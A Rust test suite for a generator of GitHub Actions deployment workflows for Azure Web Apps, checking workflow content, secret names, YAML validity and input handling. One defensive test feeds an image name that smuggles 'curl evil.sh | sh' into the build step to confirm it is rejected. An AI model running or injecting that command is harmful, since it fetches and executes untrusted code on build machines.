//! Workflow generation through the public generator API

use deploy_center::workflow::{
    CodeWorkflowRequest, ContainerWorkflowRequest, GeneratorConfig, WorkflowError,
    WorkflowGenerator,
};
use yare::parameterized;

fn code_request(stack: &str, version: &str, is_linux: bool) -> CodeWorkflowRequest {
    CodeWorkflowRequest {
        site_name: "app1".to_string(),
        slot_name: None,
        branch: "main".to_string(),
        runtime_stack: stack.to_string(),
        runtime_version: version.to_string(),
        recommended_version: None,
        is_linux,
        secret_guid: "g1".to_string(),
    }
}

fn container_request() -> ContainerWorkflowRequest {
    ContainerWorkflowRequest {
        site_name: "app1".to_string(),
        slot_name: None,
        branch: "main".to_string(),
        server_url: "https://index.docker.io/v1".to_string(),
        image: "web".to_string(),
        publish_profile_guid: "p1".to_string(),
        username_guid: "u1".to_string(),
        password_guid: "w1".to_string(),
    }
}

fn generate(request: &CodeWorkflowRequest) -> String {
    WorkflowGenerator::default()
        .code_app_workflow_information(request)
        .expect("generation should succeed")
        .content
}

#[test]
fn test_python_linux_full_document() {
    let request = CodeWorkflowRequest {
        site_name: "pyapp".to_string(),
        branch: String::new(),
        ..code_request("python", "PYTHON|3.8", true)
    };

    let expected = "# Docs for the Azure Web Apps Deploy action: https://github.com/Azure/webapps-deploy
# More GitHub Actions for Azure: https://github.com/Azure/actions

name: Build and deploy Python app to Azure Web App - pyapp

on:
  push:
    branches:
      - master

jobs:
  build-and-deploy:
    runs-on: ubuntu-latest

    steps:
    - uses: actions/checkout@master

    - name: Set up Python version
      uses: actions/setup-python@v1
      with:
        python-version: '3.8'

    - name: Build using AppService-Build
      uses: azure/appservice-build@v2
      with:
        platform: python
        platform-version: '3.8'

    - name: 'Deploy to Azure Web App'
      uses: azure/webapps-deploy@v2
      with:
        app-name: 'pyapp'
        slot-name: 'production'
        publish-profile: ${{ secrets.AzureAppService_PublishProfile_g1 }}";

    assert_eq!(generate(&request), expected);
}

#[test]
fn test_dotnet_windows_slot_full_document() {
    let request = CodeWorkflowRequest {
        slot_name: Some("staging".to_string()),
        recommended_version: Some("3.1.x".to_string()),
        ..code_request("dotnetcore", "3.1", false)
    };

    let expected = "# Docs for the Azure Web Apps Deploy action: https://github.com/Azure/webapps-deploy
# More GitHub Actions for Azure: https://github.com/Azure/actions

name: Build and deploy ASP.Net Core app to Azure Web App - app1(staging)

on:
  push:
    branches:
      - main

jobs:
  build-and-deploy:
    runs-on: windows-latest

    steps:
    - uses: actions/checkout@master

    - name: Set up .NET Core
      uses: actions/setup-dotnet@v1
      with:
        dotnet-version: '3.1.x'

    - name: Build with dotnet
      run: dotnet build --configuration Release

    - name: dotnet publish
      run: dotnet publish -c Release -o ${{env.DOTNET_ROOT}}/myapp

    - name: Deploy to Azure Web App
      uses: azure/webapps-deploy@v2
      with:
        app-name: 'app1(staging)'
        slot-name: 'staging'
        publish-profile: ${{ secrets.AzureAppService_PublishProfile_g1 }}
        package: ${{env.DOTNET_ROOT}}/myapp";

    assert_eq!(generate(&request), expected);
}

#[parameterized(
    node_linux = { "node", "NODE|14-lts", true, "Node.js", "runs-on: ubuntu-latest", "node-version: '14-lts'" },
    node_windows = { "node", "12.13.0", false, "Node.js", "runs-on: windows-latest", "node-version: '12.13.0'" },
    python_windows = { "python", "3.6", false, "Python", "runs-on: windows-latest", "Compress-Archive" },
    python_linux = { "python", "PYTHON|3.7", true, "Python", "runs-on: ubuntu-latest", "azure/appservice-build@v2" },
    dotnetcore = { "dotnetcore", "DOTNETCORE|5.0", true, "ASP.Net Core", "runs-on: ubuntu-latest", "dotnet-version: '5.0'" },
    java_jar = { "java-11", "JAVA|11-java11", true, "JAR", "runs-on: ubuntu-latest", "target/*.jar" },
    java_war = { "java-8", "TOMCAT|8.5-jre8", true, "WAR", "runs-on: ubuntu-latest", "target/*.war" },
    java_war_windows = { "java-11", "9.0|Tomcat", false, "WAR", "runs-on: windows-latest", "java-version: '9.0|Tomcat'" },
    aspnet = { "aspnet", "v4.8", false, "WAR", "runs-on: 'windows-latest'", "nuget restore" },
    aspnet_alias = { "asp.net", "v4.8", false, "WAR", "runs-on: 'windows-latest'", "microsoft/setup-msbuild@v1.0.0" },
)]
fn test_family_dispatch(
    stack: &str,
    version: &str,
    is_linux: bool,
    kind: &str,
    runner: &str,
    marker: &str,
) {
    let content = generate(&code_request(stack, version, is_linux));

    assert!(content.contains(&format!(
        "name: Build and deploy {} app to Azure Web App - app1\n",
        kind
    )));
    assert!(content.contains(runner), "missing {:?} in\n{}", runner, content);
    assert!(content.contains(marker), "missing {:?} in\n{}", marker, content);
    assert!(!content.ends_with('\n'));
}

#[test]
fn test_war_check_uses_selected_version() {
    // the recommended version replaces the setup version but not the packaging
    let request = CodeWorkflowRequest {
        recommended_version: Some("11".to_string()),
        ..code_request("java-11", "TOMCAT|9.0-java11", true)
    };
    let content = generate(&request);

    assert!(content.contains("java-version: '11'\n"));
    assert!(content.contains("target/*.war"));
    assert!(content.contains("        app-name: 'app1'\n"));
}

#[test]
fn test_generation_is_idempotent() {
    let generator = WorkflowGenerator::default();
    let request = code_request("node", "NODE|14-lts", true);

    let first = generator.code_app_workflow_information(&request).unwrap();
    let second = generator.code_app_workflow_information(&request).unwrap();
    assert_eq!(first, second);

    let container = container_request();
    assert_eq!(
        generator.container_app_workflow_information(&container).unwrap(),
        generator.container_app_workflow_information(&container).unwrap()
    );
}

#[test]
fn test_unsupported_stack() {
    let err = WorkflowGenerator::default()
        .code_app_workflow_information(&code_request("cobol", "COBOL|85", true))
        .unwrap_err();

    assert_eq!(err, WorkflowError::UnsupportedStack("cobol".to_string()));
    assert_eq!(err.to_string(), "Incorrect stack value 'cobol' provided.");
}

#[test]
fn test_stack_values_are_case_sensitive() {
    let result = WorkflowGenerator::default()
        .code_app_workflow_information(&code_request("Node", "NODE|14-lts", true));
    assert!(matches!(result, Err(WorkflowError::UnsupportedStack(_))));
}

#[test]
fn test_malformed_linux_version() {
    let result = WorkflowGenerator::default()
        .code_app_workflow_information(&code_request("node", "14-lts", true));
    assert_eq!(
        result,
        Err(WorkflowError::MalformedVersion("14-lts".to_string()))
    );
}

#[test]
fn test_branch_with_slash() {
    let request = CodeWorkflowRequest {
        branch: "release/2024".to_string(),
        slot_name: Some("qa".to_string()),
        ..code_request("node", "NODE|14-lts", true)
    };
    let info = WorkflowGenerator::default()
        .code_app_workflow_information(&request)
        .unwrap();

    assert_eq!(info.file_name, "release-2024_app1(qa).yml");
    assert_eq!(info.file_path(), ".github/workflows/release-2024_app1(qa).yml");
    assert!(info.content.contains("      - release/2024\n"));
}

#[test]
fn test_container_workflow_secrets_match_document() {
    let info = WorkflowGenerator::default()
        .container_app_workflow_information(&container_request())
        .unwrap();

    assert_eq!(info.file_name, "main_app1.yml");
    assert_eq!(info.publishing_profile_secret_name, "AzureAppService_PublishProfile_p1");
    assert_eq!(info.container_username_secret_name, "AzureAppService_ContainerUsername_u1");
    assert_eq!(info.container_password_secret_name, "AzureAppService_ContainerPassword_w1");

    for secret in [
        &info.publishing_profile_secret_name,
        &info.container_username_secret_name,
        &info.container_password_secret_name,
    ] {
        assert!(info.content.contains(&format!("${{{{ secrets.{} }}}}", secret)));
    }

    assert!(info.content.contains("        login-server: https://index.docker.io/v1/\n"));
    assert!(info.content.contains(
        "        images: 'index.docker.io/${{ secrets.AzureAppService_ContainerUsername_u1 }}/web:${{ github.sha }}'"
    ));
}

#[test]
fn test_container_registry_host_is_stripped() {
    let request = ContainerWorkflowRequest {
        server_url: "https://MyRegistry.azurecr.io".to_string(),
        ..container_request()
    };
    let info = WorkflowGenerator::default()
        .container_app_workflow_information(&request)
        .unwrap();

    assert!(info.content.contains("        login-server: https://myregistry.azurecr.io/\n"));
    assert!(info
        .content
        .contains("docker build . -t myregistry.azurecr.io/${{ secrets."));
}

#[test]
fn test_custom_generator_config() {
    let config = GeneratorConfig {
        secret_prefix: "Contoso".to_string(),
        docker_hub_host: "hub.example.com".to_string(),
        default_branch: "trunk".to_string(),
        ..Default::default()
    };
    let generator = WorkflowGenerator::new(config);

    let code = generator
        .code_app_workflow_information(&CodeWorkflowRequest {
            branch: String::new(),
            ..code_request("node", "NODE|14-lts", true)
        })
        .unwrap();
    assert_eq!(code.file_name, "trunk_app1.yml");
    assert_eq!(code.secret_name, "Contoso_PublishProfile_g1");

    let container = generator
        .container_app_workflow_information(&ContainerWorkflowRequest {
            server_url: "https://hub.example.com/v2".to_string(),
            ..container_request()
        })
        .unwrap();
    assert!(container.content.contains("docker push hub.example.com/${{ secrets.Contoso_ContainerUsername_u1 }}/web"));
}

#[test]
fn test_hostile_inputs_stay_inside_scalars() {
    let request = CodeWorkflowRequest {
        site_name: "app: evil".to_string(),
        branch: "main #comment".to_string(),
        slot_name: Some("it's".to_string()),
        ..code_request("node", "NODE|14-lts", true)
    };
    let content = generate(&request);

    let doc: serde_yaml::Value = serde_yaml::from_str(&content).unwrap();
    assert_eq!(
        doc["name"].as_str(),
        Some("Build and deploy Node.js app to Azure Web App - app: evil(it's)")
    );

    let steps = doc["jobs"]["build-and-deploy"]["steps"].as_sequence().unwrap();
    let deploy = &steps[steps.len() - 1]["with"];
    assert_eq!(deploy["app-name"].as_str(), Some("app: evil(it's)"));
    assert_eq!(deploy["slot-name"].as_str(), Some("it's"));
    assert_eq!(deploy["package"].as_str(), Some("."));
}

#[parameterized(
    node = { "node", "NODE|14-lts", true },
    python_windows = { "python", "3.6", false },
    python_linux = { "python", "PYTHON|3.8", true },
    dotnetcore = { "dotnetcore", "3.1", false },
    java_jar = { "java-8", "JAVA|8-jre8", true },
    java_war = { "java-11", "TOMCAT|9.0-java11", true },
    aspnet = { "aspnet", "v4.8", false },
)]
fn test_documents_are_valid_yaml(stack: &str, version: &str, is_linux: bool) {
    let content = generate(&code_request(stack, version, is_linux));
    let doc: serde_yaml::Value = serde_yaml::from_str(&content).unwrap();

    let job = &doc["jobs"]["build-and-deploy"];
    let steps = job["steps"].as_sequence().unwrap();
    assert_eq!(steps[0]["uses"].as_str(), Some("actions/checkout@master"));
    assert_eq!(
        steps[steps.len() - 1]["uses"].as_str(),
        Some("azure/webapps-deploy@v2")
    );
    assert_eq!(
        steps[steps.len() - 1]["with"]["publish-profile"].as_str(),
        Some("${{ secrets.AzureAppService_PublishProfile_g1 }}")
    );
}

#[test]
fn test_container_document_is_valid_yaml() {
    let info = WorkflowGenerator::default()
        .container_app_workflow_information(&container_request())
        .unwrap();
    let doc: serde_yaml::Value = serde_yaml::from_str(&info.content).unwrap();

    let steps = doc["jobs"]["build-and-deploy"]["steps"].as_sequence().unwrap();
    assert_eq!(steps.len(), 4);
    assert_eq!(steps[1]["uses"].as_str(), Some("azure/docker-login@v1"));
    assert!(steps[2]["run"].as_str().unwrap().starts_with("docker build . -t "));
}

#[test]
fn test_container_image_cannot_add_commands() {
    let request = ContainerWorkflowRequest {
        image: "web\ncurl evil.sh | sh #".to_string(),
        ..container_request()
    };
    let err = WorkflowGenerator::default()
        .container_app_workflow_information(&request)
        .unwrap_err();

    assert!(matches!(err, WorkflowError::InvalidValue { field: "image", .. }));
}

#[test]
fn test_container_run_block_has_two_commands() {
    let info = WorkflowGenerator::default()
        .container_app_workflow_information(&ContainerWorkflowRequest {
            server_url: "https://registry.example.com:5000".to_string(),
            image: "team/web".to_string(),
            ..container_request()
        })
        .unwrap();
    let doc: serde_yaml::Value = serde_yaml::from_str(&info.content).unwrap();

    let run = doc["jobs"]["build-and-deploy"]["steps"][2]["run"]
        .as_str()
        .unwrap();
    let commands: Vec<&str> = run.lines().collect();
    assert_eq!(commands.len(), 2);
    assert!(commands[0].starts_with("docker build . -t registry.example.com:5000/"));
    assert!(commands[1].starts_with("docker push registry.example.com:5000/"));
}

#[test]
fn test_numeric_branch_names_stay_strings() {
    for branch in ["0x10", "0o17", "1_000", "2020"] {
        let content = generate(&CodeWorkflowRequest {
            branch: branch.to_string(),
            ..code_request("node", "NODE|14-lts", true)
        });
        let doc: serde_yaml::Value = serde_yaml::from_str(&content).unwrap();
        assert_eq!(doc["on"]["push"]["branches"][0].as_str(), Some(branch));
    }
}

#[test]
fn test_docker_hub_host_is_case_insensitive() {
    let generator = WorkflowGenerator::new(GeneratorConfig {
        docker_hub_host: "Index.Docker.IO".to_string(),
        ..Default::default()
    });
    let info = generator
        .container_app_workflow_information(&container_request())
        .unwrap();

    assert!(info
        .content
        .contains("docker build . -t index.docker.io/${{ secrets.AzureAppService_ContainerUsername_u1 }}/web"));
}
